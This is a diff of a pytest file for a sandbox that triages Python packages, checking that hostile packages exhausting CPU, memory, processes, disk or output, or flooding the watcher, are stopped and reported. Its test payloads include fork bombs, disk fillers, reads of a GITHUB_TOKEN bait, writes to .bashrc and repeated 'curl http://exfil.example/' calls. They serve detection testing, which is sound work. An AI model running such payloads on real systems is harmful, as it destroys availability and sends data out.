@@ -1,32 +1,26 @@
-"""A package that takes all it can get is stopped in the right way, is reported once, and leaves nothing."""
+"""A package that takes all it can get is stopped in the right way, is reported once, and leaves
+nothing."""
 
 import io
 import os
 import zipfile
-from pathlib import Path
 from typing import Any
 
 import pytest
 from conftest import Snakehook
-from hostile import PROBES, assert_nothing_is_left, findings, in_turn, tight_jail
+from hostile import PROBES, assert_nothing_is_left, findings, in_turn
 from standins import Drip, Endless, Index, wheel
 
-as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gets a tmpfs and cgroups")
+from jail.watch.events import MAX_EVENTS
 
-
-@pytest.fixture(params=["as root", "as an ordinary user"])
-def program(request: pytest.FixtureRequest, jail: None) -> Snakehook:
-    if request.param == "as root" and os.geteuid() != 0:
-        pytest.skip("needs root")
-    found: Snakehook = request.getfixturevalue("snakehook" if request.param == "as root" else "ordinary")
-    return found
+as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gets cgroups")
 
 
 def triage(program: Snakehook, index: Index, source: str, **settings: object) -> dict[str, Any]:
     """The report of a package whose import runs `source`; nothing is left of it."""
     index.add_wheel("hungry", "1.0", {"hungry.py": PROBES + source})
     _, report, _ = program.triage("hungry", "--mode", "import", **settings)
-    assert_nothing_is_left(Path(program.environment["STATE_DIR"]), Path(program.environment["PIP_CACHE_DIR"]))
+    assert_nothing_is_left(program.state, program.cache)
     assert report["status"] == "finished"
     return report
 
@@ -36,8 +30,6 @@ def exhaust(jail: None, snakehook: Snakehook, index: Index) -> Any:
     """`exhaust(source, NAME=value)`: as `triage`, by whoever runs the tests."""
     return lambda source, **settings: triage(snakehook, index, source, **settings)
 
-
-# --- time -------------------------------------------------------------------------------------------------------------
 
 WAITING = {
     "busy loop": "while True: pass",
@@ -50,7 +42,9 @@ WAITING = {
 
 def test_what_never_ends_is_ended_as_a_timeout(program: Snakehook, index: Index) -> None:
     phases = in_turn(program, index, WAITING, RUN_TIMEOUT_SEC=3)
-    assert {name: phase["outcome"] for name, phase in phases.items()} == dict.fromkeys(WAITING, "timeout")
+    assert {name: phase["outcome"] for name, phase in phases.items()} == dict.fromkeys(
+        WAITING, "timeout"
+    )
 
 
 def test_a_timeout_is_named_and_found(exhaust: Any) -> None:
@@ -66,13 +60,14 @@ def test_cpu_time_is_bounded_apart_from_the_deadline(exhaust: Any) -> None:
     assert report["phases"][-1]["signal"] in ("SIGXCPU", "SIGKILL")
 
 
-# --- memory -----------------------------------------------------------------------------------------------------------
-
-
 @as_root
-def test_one_process_that_takes_all_memory_ends_as_memory_by_the_cgroup_s_account(exhaust: Any) -> None:
+def test_one_process_that_takes_all_memory_ends_as_memory_by_the_cgroup_s_account(
+    exhaust: Any,
+) -> None:
     report = exhaust(
-        "eaten = []\nwhile True: eaten.append(b'x' * (1 << 20))", RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000
+        "eaten = []\nwhile True: eaten.append(b'x' * (1 << 20))",
+        RLIMIT_AS_MB=128,
+        MAX_DISK_BYTES=20_000_000,
     )
     assert report["outcome"] == "memory"
 
@@ -100,11 +95,15 @@ while True:
     fds.append(fd)
     os.write(fd, bytes(1 << 20))
 """
-    report = exhaust(source, RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000, RLIMIT_NOFILE=4096, RUN_TIMEOUT_SEC=20)
+    report = exhaust(
+        source, RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000, RLIMIT_NOFILE=4096, RUN_TIMEOUT_SEC=20
+    )
     assert report["outcome"] == "memory"
 
 
-def test_without_cgroups_each_process_is_limited_and_the_report_says_so(ordinary: Snakehook, index: Index) -> None:
+def test_without_cgroups_each_process_is_limited_and_the_report_says_so(
+    ordinary: Snakehook, index: Index
+) -> None:
     source = """
 eaten = []
 try:
@@ -119,9 +118,6 @@ except MemoryError: print(len(eaten), flush=True)
 def test_an_exit_code_of_137_is_no_memory(exhaust: Any) -> None:
     report = exhaust("os._exit(137)")
     assert (report["outcome"], report["phases"][-1]["exit_code"]) == ("failed", 137)
-
-
-# --- processes, threads, descriptors ----------------------------------------------------------------------------------
 
 
 def test_a_fork_bomb_ends_with_its_phase(program: Snakehook, index: Index) -> None:
@@ -172,28 +168,30 @@ os._exit(0)
     assert fds <= 200
 
 
-# --- disk -------------------------------------------------------------------------------------------------------------
-
 FILLING = {
     "one file": "f = open('/tmp/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
     "shared memory": "f = open('/dev/shm/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
-    "a deleted file": "f = open('/tmp/f', 'wb'); os.remove('/tmp/f')\nwhile True: f.write(bytes(1 << 20))",
+    "a deleted file": """
+f = open('/tmp/f', 'wb')
+os.remove('/tmp/f')
+while True: f.write(bytes(1 << 20))
+""",
     "empty files": "n = 0\nwhile n < 1_000_000: os.mknod(f'/tmp/{n}'); n += 1",
     "folders": "n = 0\nwhile n < 1_000_000: os.mkdir(f'/tmp/{n}'); n += 1",
     "links": "n = 0\nwhile n < 1_000_000: os.symlink('/' + 'x' * 4000, f'/tmp/{n}'); n += 1",
 }
 
 
-@as_root
 @pytest.mark.parametrize("source", FILLING.values(), ids=FILLING)
-def test_whatever_fills_the_disk_ends_as_disk(exhaust: Any, source: str) -> None:
-    report = exhaust(source, MAX_DISK_BYTES=10_000_000, RUN_TIMEOUT_SEC=30)
+def test_whatever_fills_the_disk_ends_as_disk(
+    program: Snakehook, index: Index, source: str
+) -> None:
+    report = triage(program, index, source, MAX_DISK_BYTES=10_000_000, RUN_TIMEOUT_SEC=30)
     assert report["outcome"] == "disk"
     assert "MAX_DISK_BYTES" in report["reason"]
 
 
-@as_root
-def test_a_disk_that_was_full_for_a_moment_was_full(exhaust: Any) -> None:
+def test_a_disk_that_was_full_for_a_moment_was_full(program: Snakehook, index: Index) -> None:
     source = """
 try:
     with open('/tmp/f', 'wb') as f:
@@ -201,16 +199,13 @@ try:
 finally:
     os.truncate('/tmp/f', 0)
 """
-    assert exhaust(source, MAX_DISK_BYTES=10_000_000)["outcome"] == "disk"
+    assert triage(program, index, source, MAX_DISK_BYTES=10_000_000)["outcome"] == "disk"
 
 
-def test_without_a_disk_of_its_own_a_run_is_stopped_by_looking(ordinary: Snakehook, index: Index) -> None:
-    source = "for n in range(1000): open(f'/tmp/{n}', 'wb').write(bytes(1 << 20)); time.sleep(0.02)"
-    assert triage(ordinary, index, source, MAX_DISK_BYTES=10_000_000)["outcome"] == "disk"
-
-
-def test_the_look_at_a_million_folders_does_not_hold_the_deadline_up(ordinary: Snakehook, index: Index) -> None:
-    report = triage(ordinary, index, "for n in range(1_000_000): os.mkdir(f'/tmp/{n}')", RUN_TIMEOUT_SEC=20)
+def test_a_million_folders_do_not_hold_the_deadline_up(ordinary: Snakehook, index: Index) -> None:
+    report = triage(
+        ordinary, index, "for n in range(1_000_000): os.mkdir(f'/tmp/{n}')", RUN_TIMEOUT_SEC=20
+    )
     assert report["outcome"] == "disk"
     assert not findings(report, "evidence.tamper")
 
@@ -224,13 +219,16 @@ open('/home/dev/.bashrc', 'w').truncate(900_000_000)
 """
     report = exhaust(source)
     assert report["outcome"] == "ok"
-    assert "/home/dev/.bashrc" in {one["path"] for one in report["files"]}
+    assert "/home/dev/.bashrc" in {file["path"] for file in report["files"]}
 
 
 def test_folders_a_thousand_deep_and_odd_files_hold_nothing_up(exhaust: Any) -> None:
     source = """
-os.mkdir(b'/tmp/not-utf8-\\xff\\xfe'); open(b'/tmp/not-utf8-\\xff\\xfe/\\x80\\n\\x1b[2J', 'w').close()
-os.mkfifo('/home/dev/fifo'); os.symlink('/dev/zero', '/home/dev/zero'); os.symlink('loop', '/home/dev/loop')
+os.mkdir(b'/tmp/not-utf8-\\xff\\xfe')
+open(b'/tmp/not-utf8-\\xff\\xfe/\\x80\\n\\x1b[2J', 'w').close()
+os.mkfifo('/home/dev/fifo')
+os.symlink('/dev/zero', '/home/dev/zero')
+os.symlink('loop', '/home/dev/loop')
 socket.socket(socket.AF_UNIX).bind('/home/dev/socket')
 for n in range(100): os.symlink('/', f'/tmp/out{n}')
 os.makedirs('/tmp/shut'); open('/tmp/shut/in', 'w').close(); os.chmod('/tmp/shut', 0)
@@ -240,11 +238,9 @@ open('at-the-bottom', 'w').close()
 """
     report = exhaust(source)
     assert report["outcome"] == "ok"
-    assert "/home/dev/fifo" in {one["path"] for one in report["files"]}
-    assert not any("\n" in one["path"] or "\x1b" in one["path"] for one in report["files"])
+    assert "/home/dev/fifo" in {file["path"] for file in report["files"]}
+    assert not any("\n" in file["path"] or "\x1b" in file["path"] for file in report["files"])
 
-
-# --- output -----------------------------------------------------------------------------------------------------------
 
 TALKING = {
     "without newlines": "while True: os.write(1, b'x' * 65536)",
@@ -261,17 +257,12 @@ def test_endless_output_is_counted_and_cut(program: Snakehook, index: Index) -> 
         assert out["bytes"] > 1 << 20 >= len(out["text"]), name
 
 
-# --- what the index gives ---------------------------------------------------------------------------------------------
-
-
 def install(snakehook: Snakehook, name: str, **settings: object) -> dict[str, Any]:
     _, report, _ = snakehook.triage(name, **settings)
-    places = snakehook.environment
-    assert_nothing_is_left(Path(places["STATE_DIR"]), Path(places["PIP_CACHE_DIR"]))
+    assert_nothing_is_left(snakehook.state, snakehook.cache)
     return report
 
 
-@as_root
 def test_a_wheel_that_is_a_zip_bomb_fills_the_run_s_disk_and_no_more(
     jail: None, snakehook: Snakehook, index: Index
 ) -> None:
@@ -315,22 +306,23 @@ def test_a_download_that_does_not_end_is_cut(
     index.entry("load", core_metadata=None)
     index.answer("/files/load-1.0-py3-none-any.whl", answer)
     report = install(
-        snakehook, "load", RUN_TIMEOUT_SEC=15 if outcome == "download_cap" else 4, MAX_DOWNLOAD_BYTES=2_000_000
+        snakehook,
+        "load",
+        RUN_TIMEOUT_SEC=15 if outcome == "download_cap" else 4,
+        MAX_DOWNLOAD_BYTES=2_000_000,
     )
     assert report["outcome"] == outcome
     assert report["downloads"] == []
 
 
-# --- floods against the warden ----------------------------------------------------------------------------------------
-
 FLOOD_INDEX = """
 def flood():
     kept = []
     for number in range(10_000):
-        one = socket.socket()
+        sock = socket.socket()
         try:
-            one.connect(("127.0.0.1", 3141))
-            kept = [*kept[-100:], one]
+            sock.connect(("127.0.0.1", 3141))
+            kept = [*kept[-100:], sock]
         except OSError:
             pass
 if not os.path.exists("/tmp/flooded"):
@@ -351,9 +343,9 @@ def test_ten_thousand_connections_to_the_index_stop_neither_it_nor_the_run(
 BIG_PAGE = """
 import threading
 def ask():
-    one = socket.create_connection(("127.0.0.1", 3141))
-    one.sendall(b"GET /simple/large/ HTTP/1.1\\r\\n\\r\\n")
-    while one.recv(1 << 20): pass
+    sock = socket.create_connection(("127.0.0.1", 3141))
+    sock.sendall(b"GET /simple/large/ HTTP/1.1\\r\\n\\r\\n")
+    while sock.recv(1 << 20): pass
 if not os.path.exists("/tmp/asked"):
     open("/tmp/asked", "w").close()
     for _ in range(30): threading.Thread(target=ask, daemon=True).start()
@@ -362,7 +354,7 @@ os.popen("true").read()
 """
 
 
-def test_many_requests_for_a_large_page_at_once_do_not_use_up_the_warden_s_memory(
+def test_many_requests_for_a_large_page_at_once_do_not_use_up_the_watch_s_memory(
     jail: None, snakehook: Snakehook, index: Index
 ) -> None:
     index.add_wheel("large", "1.0", {"large.py": ""})
@@ -382,16 +374,17 @@ def test_many_requests_for_a_large_page_at_once_do_not_use_up_the_warden_s_memor
 FLOODS = {
     "DNS questions": """
 name = b"".join(bytes([7]) + b"%07d" % 7 for _ in range(3)) + b"\\0"
-with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
-    one.setblocking(False)
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+    sock.setblocking(False)
     for n in range(50_000):
         question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7%07d\\0\\0\\1\\0\\1" % n
-        try: one.sendto(question, ("127.0.0.1", 53))
+        try: sock.sendto(question, ("127.0.0.1", 53))
         except BlockingIOError: pass
 """,
     "audit lines": """
 fd = os.open("/opt/snakehook/audit", os.O_WRONLY)
-for n in range(50_000): os.write(fd, b'{"event": "spawn", "pid": %d, "what": "%d", "at": "x"}\\n' % (n, n))
+line = b'{"event": "spawn", "pid": %d, "what": "%d", "at": "x"}\\n'
+for n in range(50_000): os.write(fd, line % (n, n))
 for _ in range(2_000): os.write(fd, b"[" * 4000 + b"\\n")
 os.write(fd, b"x" * 1_000_000)
 """,
@@ -414,14 +407,19 @@ for n in range(20_000):
 
 
 @pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
-def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(exhaust: Any, flood: str) -> None:
-    report = exhaust(flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=40)
+def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(
+    exhaust: Any, flood: str
+) -> None:
+    report = exhaust(
+        flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=40
+    )
     assert report["outcome"] == "ok", report["reason"]
     assert len(str(report)) < 20_000_000
     assert any("curl" in title for title in findings(report, "process.spawn"))
 
 
-# Each of these keeps the warden busy after the phase's end, when the service waits WARDEN_GRACE_SEC and no longer.
+# Each of these keeps the watch busy after the phase's end, when the run keeper waits GRACE_SEC
+# and no longer.
 AFTERMATHS = {
     "a hundred files to search for bait": """
 text = (os.environ["GITHUB_TOKEN"][-1] * 1_000_000).encode()
@@ -429,14 +427,15 @@ for n in range(100): open(f"/tmp/{n:03}", "wb").write(text)
 """,
     "two accounts with much to compare": """
 fd = os.open("/opt/snakehook/audit", os.O_WRONLY)
+line = b'{"event": "address", "pid": %d, "what": %s, "at": "x"}\\n'
 for n in range(2000):
     what = json.dumps("x" * 3800 + str(n))
-    os.write(fd, b'{"event": "address", "pid": %d, "what": %s, "at": "x"}\\n' % (os.getpid(), what.encode()))
+    os.write(fd, line % (os.getpid(), what.encode()))
 for n in range(2000):
     for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
-        with socket.socket(socket.AF_INET, kind) as one:
-            one.setblocking(False)
-            try: one.connect((f"127.1.{n // 250}.{n % 250 + 1}", 9))
+        with socket.socket(socket.AF_INET, kind) as sock:
+            sock.setblocking(False)
+            try: sock.connect((f"127.1.{n // 250}.{n % 250 + 1}", 9))
             except OSError: pass
 """,
     "a gigabyte of paths": """
@@ -454,8 +453,13 @@ for n in range(10_000): os.link("/home/dev/links", f"/home/dev/.{n}.pth")
 
 
 @pytest.mark.parametrize("source", AFTERMATHS.values(), ids=AFTERMATHS)
-def test_no_evidence_is_so_laborious_that_the_warden_is_not_waited_for(exhaust: Any, source: str) -> None:
-    report = exhaust(source + "\nos.popen('curl http://exfil.example/').read()\ntime.sleep(3600)\n", RUN_TIMEOUT_SEC=8)
+def test_no_evidence_is_so_laborious_that_the_watch_is_not_waited_for(
+    exhaust: Any, source: str
+) -> None:
+    report = exhaust(
+        source + "\nos.popen('curl http://exfil.example/').read()\ntime.sleep(3600)\n",
+        RUN_TIMEOUT_SEC=8,
+    )
     assert report["outcome"] == "timeout", report["reason"]
     assert any("curl" in title for title in findings(report, "process.spawn"))
 
@@ -463,22 +467,23 @@ def test_no_evidence_is_so_laborious_that_the_warden_is_not_waited_for(exhaust: 
 UNBORN = """
 import ctypes
 def fork_that_does_not_return_until_its_child_is_gone():
-    call, flags = 220 if os.uname().machine == "aarch64" else 56, 0x4000 | signal.SIGCHLD  # clone, CLONE_VFORK
-    return ctypes.CDLL(None).syscall(ctypes.c_long(call), ctypes.c_long(flags), *[ctypes.c_long(0)] * 4)
-with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+    clone, CLONE_VFORK = 220 if os.uname().machine == "aarch64" else 56, 0x4000
+    words = [clone, CLONE_VFORK | signal.SIGCHLD, 0, 0, 0, 0]
+    return ctypes.CDLL(None).syscall(*map(ctypes.c_long, words))
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
     if fork_that_does_not_return_until_its_child_is_gone() == 0:
         for _ in range(80):
-            try: one.sendmsg([b"x" * 4096] * 200, [], 0, ("192.0.2.1", 9))
+            try: sock.sendmsg([b"x" * 4096] * 200, [], 0, ("192.0.2.1", 9))
             except OSError: pass
         os._exit(0)
 os.popen("curl http://exfil.example/").read()
 """
 
 
-def test_a_process_whose_birth_is_not_told_yet_does_not_use_up_the_warden_s_memory(
-    exhaust: Any, tmp_path: Path
+def test_a_process_whose_birth_is_not_told_yet_does_not_use_up_the_watch_s_memory(
+    exhaust: Any,
 ) -> None:
-    report = exhaust(UNBORN, JAIL_DIR=tight_jail(tmp_path, MAX_MEMORY_BYTES=320 << 20), RUN_TIMEOUT_SEC=40)
+    report = exhaust(UNBORN, RUN_TIMEOUT_SEC=40)
     assert report["outcome"] == "ok", report["reason"]
     assert any("192.0.2.1:9" in title for title in findings(report, "network.attempt"))
     assert any("curl" in title for title in findings(report, "process.spawn"))
@@ -490,12 +495,15 @@ os.makedirs(site, exist_ok=True)
 open(f"{site}/lines", "w").write("\\n" * 1_000_000)
 for n in range(2000):
     os.makedirs(f"{site}/x-{n}.dist-info", exist_ok=True)
-    if not os.path.exists(f"{site}/x-{n}.dist-info/RECORD"): os.link(f"{site}/lines", f"{site}/x-{n}.dist-info/RECORD")
+    record = f"{site}/x-{n}.dist-info/RECORD"
+    if not os.path.exists(record): os.link(f"{site}/lines", record)
 open("/home/dev/.bashrc", "w").write("echo persisted")
 """
 
 
-def test_a_crowd_of_records_is_not_read_to_its_end(jail: None, snakehook: Snakehook, index: Index) -> None:
+def test_a_crowd_of_records_is_not_read_to_its_end(
+    jail: None, snakehook: Snakehook, index: Index
+) -> None:
     index.add_backend_sdist("crowd", "1.0", PROBES + CROWD_OF_RECORDS, {"crowd.py": ""})
     report = install(snakehook, "crowd", RUN_TIMEOUT_SEC=20)
     assert any(".bashrc" in title for title in findings(report, "persistence.write"))
@@ -513,13 +521,13 @@ open("/home/dev/.bashrc", "w").write("echo persisted")
     assert any("looked at" in title for title in findings(report, "limit.hit"))
 
 
-def test_names_that_are_not_kept_are_counted(exhaust: Any, tmp_path: Path) -> None:
-    source = """
-for n in range(150):
-    try: socket.getaddrinfo(f"n{n}.example.com", 80)
+def test_names_that_are_not_kept_are_counted(exhaust: Any) -> None:
+    source = f"""
+for n in range({MAX_EVENTS + 50}):
+    try: socket.getaddrinfo(f"n{{n}}.example.com", 80)
     except OSError: pass
 """
-    report = exhaust(source, JAIL_DIR=tight_jail(tmp_path))
+    report = exhaust(source)
     assert any("name asked for" in title for title in findings(report, "limit.hit"))
 
 
@@ -531,7 +539,10 @@ for n in range(700):
 os.popen("curl http://exfil.example/").read()
 """
     report = exhaust(source, RUN_TIMEOUT_SEC=40)
-    assert any(one["severity"] == "high" and "curl" in one["title"] for one in report["findings"])
+    assert any(
+        finding["severity"] == "high" and "curl" in finding["title"]
+        for finding in report["findings"]
+    )
 
 
 def test_many_new_files_do_not_push_out_the_one_that_matters(exhaust: Any) -> None:
